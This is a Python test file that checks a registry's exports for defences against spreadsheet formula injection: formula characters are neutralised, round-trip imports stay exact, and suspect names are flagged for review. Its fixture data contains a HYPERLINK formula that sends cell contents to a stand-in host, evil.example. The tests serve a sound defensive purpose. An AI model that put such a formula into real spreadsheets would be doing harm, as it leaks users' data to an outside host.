"""Spreadsheet formula injection: names that start with ``=``, ``+``, ``-`` or ``@`` are neutralised
in every spreadsheet-bound export (OWASP's rule), the exports say so, the project's own formats
import back exactly, and the import flags such a name for review."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.factories import sample_row, write_sample_xlsx
from undesirable.exports import render_export, write_export
from undesirable.exports.listing import select_listed
from undesirable.registry.registry import Registry

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Fund")',
    "+7 Fund (Фонд +7)",
    "-2+3 Association",
    "@SUM(1+1) Institute",
    "'=already quoted Society",
)


@pytest.fixture()
def hostile(registry: Any, tmp_path: Path) -> Any:
    rows = [sample_row(i + 1, raw_name=name) for i, name in enumerate(HOSTILE)]
    registry.import_file(write_sample_xlsx(tmp_path / "hostile.xlsx", rows=rows))
    return registry


@pytest.fixture()
def fresh(registry: Any, tmp_path: Path) -> Iterator[Registry]:
    settings = replace(registry.settings, database_url=f"sqlite:///{tmp_path / 'fresh.sqlite3'}")
    other = Registry.open(settings=settings)
    try:
        yield other
    finally:
        other.close()


def _cells(data: bytes, encoding: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(encoding)), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize(("fmt", "encoding", "delimiter"), [("compliance-csv", "cp1251", ";"), ("csv", "utf-8", ",")])
def test_no_csv_cell_starts_with_a_formula_character(hostile: Any, fmt: str, encoding: str, delimiter: str) -> None:
    export = render_export(hostile, format=fmt)
    cells = _cells(export.data, encoding, delimiter)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any("formula" in w or "apostrophe" in w for w in export.warnings)


def test_the_xlsx_export_holds_text_not_formulas(hostile: Any, tmp_path: Path) -> None:
    export = render_export(hostile, format="xlsx")
    book = openpyxl.load_workbook(io.BytesIO(export.data))
    sheet = book.worksheets[0]
    types = {cell.data_type for row in sheet.iter_rows(min_row=4) for cell in row if cell.value is not None}
    assert "f" not in types
    assert HOSTILE[0] in [cell.value for row in sheet.iter_rows(min_row=4) for cell in row]
    assert any("formula" in w for w in export.warnings)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_the_project_formats_import_back_exactly(hostile: Any, fresh: Registry, tmp_path: Path, fmt: str) -> None:
    path = write_export(render_export(hostile, format=fmt), str(tmp_path))
    assert path is not None
    fresh.import_file(path)
    names = sorted(o.raw_name for o in select_listed(fresh.all_organizations()))
    assert names == sorted(HOSTILE)


def test_the_import_flags_such_names_for_review(hostile: Any) -> None:
    flagged = {o.raw_name: o for o in hostile.all_organizations() if o.needs_review}
    for name in HOSTILE[:4]:
        assert name in flagged
        assert any("formula" in reason for reason in flagged[name].review_reasons)
    quoted = next(o for o in hostile.all_organizations() if o.raw_name == HOSTILE[4])
    assert not any("formula" in reason for reason in quoted.review_reasons)  # an apostrophe runs nothing
